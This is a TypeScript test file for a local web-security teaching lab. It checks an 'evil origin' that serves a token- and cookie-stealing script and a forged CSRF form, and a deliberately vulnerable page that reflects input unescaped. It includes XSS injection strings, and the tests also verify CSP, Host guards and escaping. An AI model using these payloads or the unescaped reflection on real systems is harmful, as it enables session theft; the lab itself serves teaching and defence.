import { describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../../server/middleware/security-headers.ts';
import {
  evilOriginResponseSchema,
  lootResponseSchema,
  xssSiteResponseSchema,
} from '../../../shared/api/lab-attacks.ts';
import { LabClient } from '../../support/lab-client.ts';
import { BACKENDS } from '../../support/backends.ts';
import { useLabServer } from '../../support/lab-server.ts';
import { TEST_LAB_KEY } from '../../support/test-app.ts';

describe.each(BACKENDS)('the evil origin and the vulnerable page (labs 5 and 6) on $name', (backend) => {
  const lab = useLabServer(backend);
  const withKey = (client: LabClient, method: 'get' | 'post' | 'delete', path: string) =>
    client.agent[method](path).set('X-Lab-Key', TEST_LAB_KEY).set('Origin', client.url);

  it("is started by the app's own window only", async () => {
    const anonymous = await new LabClient(lab.served.url).agent.post('/api/v1/lab/evil-origin');
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.error.code).toBe('LAB_KEY_REQUIRED');
    const alice = new LabClient(lab.served.url);
    await alice.login('alice', 'alice-lab-pass');
    for (const res of [
      await alice.post('/api/v1/lab/evil-origin'),
      await alice.get('/api/v1/lab/evil-origin/loot'),
      await alice.delete('/api/v1/lab/evil-origin/loot'),
    ]) {
      expect(res.status).toBe(401);
      expect(res.body.error.code).toBe('LAB_KEY_REQUIRED');
    }
    expect(lab.t.evilOrigin.urls).toBeNull();
  });

  it('starts once on another loopback port, serves the script and the forged form, records loot, and answers only its own names', async () => {
    const client = new LabClient(lab.served.url);
    const first = evilOriginResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/evil-origin')).body);
    const again = evilOriginResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/evil-origin')).body);
    expect(again).toEqual(first);
    const port = new URL(first.url).port;
    expect(first.url).toBe(`http://localhost:${port}`);
    expect(first.sameSiteUrl).toBe(`http://127.0.0.1:${port}`);
    expect(port).not.toBe(new URL(lab.served.url).port);

    const script = await fetch(`${first.sameSiteUrl}/steal.js`, { headers: { Host: `localhost:${port}` } });
    expect(script.headers.get('content-type')).toMatch(/javascript/);
    const text = await script.text();
    expect(text).toContain('localStorage.getItem("sessionlab:access_token")');
    expect(text).toContain('"x-stolen-by": \'evil-script\'');
    expect(text).toContain('document.cookie');
    // The lab shows the learner the script it injects: the answer carries exactly what the evil origin serves under the
    // name the lab uses (fetch sends its own Host, 127.0.0.1 here; the script names its home by the Host it was asked by).
    expect(first.script).toBe(text.replaceAll(first.sameSiteUrl, first.url));
    expect(first.script).toContain(`"${first.url}" + '/loot?'`);
    const form = await (await fetch(`${first.sameSiteUrl}/forged-form`)).text();
    expect(form).toContain(`action="${lab.served.url}/api/v1/lab/csrf/transfer"`);

    await fetch(`${first.sameSiteUrl}/loot?token=eyJhbGciOi%E2%80%A6abcdefgh&cookie=theme%3Ddark&status=200`);
    const loot = lootResponseSchema.parse((await withKey(client, 'get', '/api/v1/lab/evil-origin/loot')).body).loot;
    expect(loot).toEqual([
      expect.objectContaining({ token: 'eyJhbGciOi…abcdefgh', cookie: 'theme=dark', status: 200 }),
    ]);
    expect((await withKey(client, 'delete', '/api/v1/lab/evil-origin/loot')).status).toBe(204);
    expect(lootResponseSchema.parse((await withKey(client, 'get', '/api/v1/lab/evil-origin/loot')).body).loot).toEqual(
      [],
    );

    // A DNS-rebinding name is refused by the evil origin too, and it is GET only.
    const { request } = await import('node:http');
    const status = await new Promise<number>((resolve, reject) => {
      request({ host: '127.0.0.1', port, path: '/steal.js', headers: { Host: `evil.example:${port}` } }, (res) =>
        resolve(res.statusCode ?? 0),
      )
        .on('error', reject)
        .end();
    });
    expect(status).toBe(403);
    expect((await fetch(`${first.sameSiteUrl}/loot`, { method: 'POST' })).status).toBe(405);
    // A target no URL parser takes is a 400, never a crash of the process (the app on its own port still answers).
    const raw = await new Promise<number>((resolve, reject) => {
      request(
        { host: '127.0.0.1', port: Number(port), path: 'http://a:99999/', headers: { Host: `127.0.0.1:${port}` } },
        (res) => resolve(res.statusCode ?? 0),
      )
        .on('error', reject)
        .end();
    });
    expect(raw).toBe(400);
    expect((await client.get('/api/v1/health')).status).toBe(200);
    // Every answer says its type is meant: no browser sniffs the script, the page, the pixel or an error as something else.
    for (const path of ['/steal.js', '/forged-form', '/loot', '/nothing-here'])
      expect((await fetch(`${first.sameSiteUrl}${path}`)).headers.get('x-content-type-options'), path).toBe('nosniff');
    expect((await fetch(`${first.sameSiteUrl}/loot`, { method: 'POST' })).headers.get('x-content-type-options')).toBe(
      'nosniff',
    );
    expect(
      (await fetch(`${first.sameSiteUrl}/loot`, { headers: { Host: 'evil.example' } })).headers.get(
        'x-content-type-options',
      ),
    ).toBe('nosniff');
  });

  it('the vulnerable page is served on the lab 5 site only (its own port, started with the lab key), reflects name unescaped, and weakens only its own CSP', async () => {
    const client = new LabClient(lab.served.url);
    const appPort = new URL(lab.served.url).port;
    // Off by default: not on the app's origin, not anywhere until the window starts the site.
    expect((await client.get('/lab/xss?name=x')).status).toBe(404);
    expect((await client.get('/lab/xss-frame')).status).toBe(404);
    const alice = new LabClient(lab.served.url);
    await alice.login('alice', 'alice-lab-pass');
    for (const res of [
      await alice.post('/api/v1/lab/xss-site'),
      await alice.get('/api/v1/lab/xss-site'),
      await alice.delete('/api/v1/lab/xss-site'),
    ]) {
      expect(res.status).toBe(401);
      expect(res.body.error.code).toBe('LAB_KEY_REQUIRED');
    }
    expect(xssSiteResponseSchema.parse((await withKey(client, 'get', '/api/v1/lab/xss-site')).body)).toEqual({
      url: null,
    });

    const { url: siteUrl } = xssSiteResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/xss-site')).body);
    expect(xssSiteResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/xss-site')).body).url).toBe(siteUrl);
    const sitePort = new URL(siteUrl!).port;
    expect(siteUrl).toBe(`http://127.0.0.1:${sitePort}`);
    expect(sitePort).not.toBe(appPort);
    const site = new LabClient(siteUrl!);
    // Still never on the app's origin.
    expect((await client.get('/lab/xss?name=x')).status).toBe(404);

    const { url } = evilOriginResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/evil-origin')).body);
    const injection = `<script src="${url}/steal.js"></script>`;
    const page = await site.get(`/lab/xss?name=${encodeURIComponent(injection)}`);
    expect(page.status).toBe(200);
    expect(page.text).toContain(`Hello, ${injection}!`);
    expect(page.text).toContain('Deliberately vulnerable lab page');
    const csp = page.headers['content-security-policy'] as string;
    const nonce = /'nonce-([A-Za-z0-9+/=]+)'/.exec(csp)![1];
    expect(csp).toContain(`script-src 'nonce-${nonce}' ${url}`);
    expect(page.text).toContain(`<script nonce="${nonce}">`);
    expect(csp).toContain(`frame-ancestors http://127.0.0.1:${appPort} http://localhost:${appPort}`);
    expect(csp).toContain("connect-src 'self'");
    expect(csp).not.toContain('unsafe-inline');
    expect(page.headers['x-frame-options']).toBeUndefined();
    expect((await site.get('/lab/xss?name=x')).headers['content-security-policy']).not.toContain(nonce);

    // The site answers its page and the token routes its page and the injected script use: nothing else.
    for (const path of [
      '/',
      '/api/v1/health',
      '/api/v1/session/me',
      '/api/v1/inspector/har',
      '/api/v1/lab/xss-site',
      '/lab/xss-frame',
      '/lab/csrf-frame?site=same-site',
      '/LAB/xss',
      '/lab/%78ss',
    ]) {
      const other = await site.get(path).set('X-Lab-Key', TEST_LAB_KEY);
      expect(other.status, path).toBe(404);
      expect(other.body.error.code).toBe('NOT_FOUND');
    }
    const token = await site.post('/api/v1/token/login', { username: 'alice', password: 'alice-lab-pass' });
    expect(token.status).toBe(200);
    expect(
      (await site.get('/api/v1/token/data').set('Authorization', `Bearer ${token.body.access_token}`)).status,
    ).toBe(200);
    expect(
      (await site.post('/api/v1/token/logout').set('Authorization', `Bearer ${token.body.access_token}`)).status,
    ).toBe(204);
    // The Host guard holds there too.
    expect((await site.get('/lab/xss').set('Host', 'evil.example')).status).toBe(403);

    // The app's frame page frames it in a sandbox, passing name on escaped, never as markup.
    const frame = await client.get(`/lab/xss-frame?name=${encodeURIComponent('"><script>alert(1)</script>')}`);
    expect(frame.status).toBe(200);
    expect(frame.text).toContain(
      `<iframe src="http://127.0.0.1:${sitePort}/lab/xss?name=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E" sandbox="allow-scripts allow-same-origin"`,
    );
    expect(frame.text).not.toContain('<script>');
    expect(frame.headers['content-security-policy']).toBe(
      `default-src 'none'; frame-src http://127.0.0.1:${sitePort} http://localhost:${sitePort}; base-uri 'none'; form-action 'none'; frame-ancestors 'self'`,
    );
    const viaLocalhost = await client.get('/lab/xss-frame').set('Host', `localhost:${appPort}`);
    expect(viaLocalhost.text).toContain(`src="http://localhost:${sitePort}/lab/xss?name=learner"`);

    // Everything else keeps the app's strict policy: the main page, another page path, the API.
    for (const path of ['/', '/labs', '/lab/other', '/lab/xssx']) {
      const other = await client.get(path);
      expect(other.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
      expect(other.headers['x-frame-options']).toBe('DENY');
    }
    expect(CONTENT_SECURITY_POLICY).toContain("script-src 'self'");
    expect(CONTENT_SECURITY_POLICY).toContain("frame-ancestors 'none'");
    expect((await client.get('/api/v1/health')).headers['content-security-policy']).toBe(
      "default-src 'none'; frame-ancestors 'none'",
    );

    // Stopped by the lab's reset: its port answers nothing, and the pages are gone again.
    expect((await withKey(client, 'delete', '/api/v1/lab/xss-site')).status).toBe(204);
    await expect(fetch(`${siteUrl}/lab/xss`)).rejects.toThrow();
    expect((await client.get('/lab/xss-frame')).status).toBe(404);
    expect(xssSiteResponseSchema.parse((await withKey(client, 'get', '/api/v1/lab/xss-site')).body)).toEqual({
      url: null,
    });
  });

  it('refuses bad input on the lab pages with JSON errors', async () => {
    const client = new LabClient(lab.served.url);
    await withKey(client, 'post', '/api/v1/lab/xss-site');
    const long = await client.get(`/lab/xss-frame?name=${'a'.repeat(2_049)}`);
    expect(long.status).toBe(400);
    expect(long.body.error.code).toBe('VALIDATION_FAILED');
    const site = await client.get('/lab/csrf-frame?site=elsewhere');
    expect(site.status).toBe(400);
    expect(site.body.error.code).toBe('VALIDATION_FAILED');
    const post = await client.post('/lab/xss-frame');
    expect(post.status).toBeGreaterThanOrEqual(400);
    await withKey(client, 'delete', '/api/v1/lab/xss-site');
  });
});

describe('the vulnerable page before the evil origin runs', () => {
  const lab = useLabServer();
  it('allows no script but its own, and the CSRF frame page says the evil origin is not running', async () => {
    const client = new LabClient(lab.served.url);
    const { url } = xssSiteResponseSchema.parse(
      (await client.agent.post('/api/v1/lab/xss-site').set('X-Lab-Key', TEST_LAB_KEY)).body,
    );
    const page = await new LabClient(url!).get('/lab/xss?name=x');
    expect(page.headers['content-security-policy']).toMatch(/script-src 'nonce-[A-Za-z0-9+/=]+'; /);
    expect(page.headers['content-security-policy']).toContain("img-src 'none'");
    const frame = await client.get('/lab/csrf-frame?site=same-site');
    expect(frame.status).toBe(404);
    expect(frame.body.error.code).toBe('NOT_FOUND');
  });
});
